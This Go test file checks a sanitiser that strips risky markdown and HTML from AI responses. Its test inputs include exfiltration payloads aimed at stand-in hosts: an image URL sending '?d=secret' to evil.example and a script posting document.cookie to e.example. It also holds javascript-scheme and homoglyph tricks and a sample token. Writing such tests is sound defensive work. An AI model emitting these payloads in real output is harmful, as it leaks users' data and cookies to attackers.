package detect

import (
	"strings"
	"testing"
)

// neutralise applies markup findings (removal) to text, as redact.Remove
// does, merging overlaps.
func neutralise(text string, fs []Finding) string {
	var b strings.Builder
	pos := 0
	for _, f := range fs {
		if f.Detector != DetectorMarkup {
			continue
		}
		if f.ByteStart > pos {
			b.WriteString(text[pos:f.ByteStart])
		}
		pos = max(pos, f.ByteEnd)
	}
	b.WriteString(text[min(pos, len(text)):])
	return b.String()
}

func markupScanner(t testing.TB, hosts ...string) *Scanner {
	return contentScanner(t, DirectionResponse, nil, OutputSpec{Sanitize: true, AllowedLinkHosts: hosts})
}

func TestMarkupSanitiser(t *testing.T) {
	t.Parallel()
	sc := markupScanner(t, "docs.example.com", "*.trusted.example")
	cases := []struct {
		name, in, want, typ string
	}{
		{"exfil image", "Done. ![ok](https://evil.example/p.png?d=secret) bye", "Done. ok bye", MarkupImageHost},
		{"external link", "see [the page](https://evil.example/x) now", "see the page now", MarkupLinkHost},
		{"allowed link", "see [docs](https://docs.example.com/a?b=c) now", "see [docs](https://docs.example.com/a?b=c) now", ""},
		{"allowed subdomain", "![d](https://cdn.trusted.example/i.png)", "![d](https://cdn.trusted.example/i.png)", ""},
		{"wildcard is not the apex", "![d](https://trusted.example/i.png)", "d", MarkupImageHost},
		{"relative link kept", "see [here](/docs/page#x) and [there](other.md)", "see [here](/docs/page#x) and [there](other.md)", ""},
		{"userinfo trick", "[x](https://docs.example.com@evil.example/)", "x", MarkupLinkHost},
		{"scheme relative", "![x](//evil.example/p.png)", "x", MarkupImageHost},
		{"backslashes", `![x](/\evil.example/p.png)`, "x", MarkupImageHost},
		{"javascript", "[click](javascript:alert(1))", "click", MarkupScheme},
		{"javascript entity", "[click](&#106;avascript:alert(1))", "click", MarkupScheme},
		{"javascript tab", "[click](java\tscript:alert(1))", "click", MarkupUnparseable}, // white space ends the destination: no ')' follows
		{"data image", "![x](data:image/png;base64,AAAA)", "x", MarkupScheme},
		{"vbscript upper", "[x](VBScript:msgbox)", "x", MarkupScheme},
		{"idn homoglyph host", "![x](https://dоcs.example.com/p.png)", "x", MarkupImageHost},
		{"punycode allowed", "![x](https://DOCS.example.com./p.png)", "![x](https://DOCS.example.com./p.png)", ""},
		{"title", `![x](https://evil.example/p.png "t")`, "x", MarkupImageHost},
		{"angle dest", "![x](<https://evil.example/a b.png>)", "x", MarkupImageHost},
		{"nested brackets", "[a [b] c](https://evil.example/)", "a [b] c", MarkupLinkHost},
		{"unterminated", "![x](https://evil.example/p.png?d=", "x", MarkupUnparseable},
		{"reference definition", "[a][r]\n\n[r]: https://evil.example/p.png\n", "[a][r]\n\n[r]:\n", MarkupLinkHost},
		{"autolink", "go <https://evil.example/x> now", "go  now", MarkupLinkHost},
		{"autolink allowed", "go <https://docs.example.com/x> now", "go <https://docs.example.com/x> now", ""},
		{"html img", `a <img src="https://evil.example/p.png"> b`, "a  b", MarkupImageHost},
		{"html img single quotes unquoted", `a <IMG SRC=https://evil.example/p.png> b`, "a  b", MarkupImageHost},
		{"html a", `<a href="https://evil.example/">x</a>`, "x</a>", MarkupLinkHost},
		{"html a allowed", `<a href="https://docs.example.com/">x</a>`, `<a href="https://docs.example.com/">x</a>`, ""},
		{"script", "a <script>fetch('//e.example/'+document.cookie)</script> b", "a  b", MarkupScript},
		{"script unterminated", "a <script>alert(1)", "a ", MarkupScript},
		{"iframe", `a <iframe src="https://docs.example.com/"></iframe> b`, "a  b", MarkupScript},
		{"event handler", `<b onmouseover="x()">hi</b>`, "hi</b>", MarkupScript},
		{"srcset", `<img srcset="/a.png 1x, https://evil.example/b.png 2x">`, "", MarkupImageHost},
		{"mailto", "[mail](mailto:a@b.example)", "mail", MarkupLinkHost},
		{"bare url with email in query", "visit https://docs.example.com/?u=jane.doe@gmail.com today", "visit  today", MarkupData},
		{"link to allowed host carrying data", "[x](https://docs.example.com/?k=ghp_R8fZb2Qk9LmX3vT7wYpN4cJ6hD1sA0eG5uKq)", "x", MarkupData},
		{"percent-encoded data", "[x](https://docs.example.com/?u=jane.doe%40gmail.com)", "x", MarkupData},
		{"bare url plain", "visit https://evil.example/page today", "visit https://evil.example/page today", ""},
		{"comparison not a tag", "if a <b and c > d", "if a <b and c > d", ""},
		{"code prose", "use `x[i](y)` in code", "use `x[i](y)` in code", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			res := sc.Scan(c.in)
			if got := neutralise(c.in, res.Findings); got != c.want {
				t.Errorf("sanitised %q = %q, want %q (findings %+v)", c.in, got, c.want, res.Findings)
			}
			var typ string
			for _, f := range res.Findings {
				if f.Detector == DetectorMarkup {
					typ = f.Type
					break
				}
			}
			if typ != c.typ {
				t.Errorf("first markup type = %q, want %q", typ, c.typ)
			}
		})
	}
}

func TestMarkupOnlyForAnswers(t *testing.T) {
	t.Parallel()
	req := contentScanner(t, DirectionRequest, nil, OutputSpec{Sanitize: true})
	if fs := req.Scan("![x](https://evil.example/p.png)").Findings; len(fs) != 0 {
		t.Errorf("a prompt's markup was reported: %+v", fs)
	}
	off := contentScanner(t, DirectionResponse, nil, OutputSpec{Sanitize: false})
	if fs := off.Scan("![x](https://evil.example/p.png)").Findings; len(fs) != 0 {
		t.Errorf("sanitize false still reported: %+v", fs)
	}
	sig := markupScanner(t).Scan("![x](https://evil.example/p.png) <script>x</script>").Signals()
	if len(sig.Markup) != 2 || sig.Markup[0].Type != MarkupImageHost || sig.Markup[1].Type != MarkupScript {
		t.Errorf("signals.markup = %+v", sig.Markup)
	}
}
